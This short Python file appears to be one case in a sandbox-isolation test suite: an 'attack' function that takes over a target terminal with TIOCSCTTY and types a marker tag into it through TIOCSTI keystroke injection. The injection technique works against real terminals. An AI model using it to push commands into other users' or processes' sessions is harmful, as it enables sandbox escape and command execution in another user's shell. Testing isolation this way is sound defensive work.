"""Opens a terminal as its own and types into it (TIOCSTI), as the organiser would."""

import fcntl
import os

from attack import attack, target


@attack
def _():
    terminal = os.open(target.terminal, os.O_RDWR)
    fcntl.ioctl(terminal, 0x540E, 0)  # TIOCSCTTY
    for letter in target.tag:
        fcntl.ioctl(terminal, 0x5412, letter.encode())
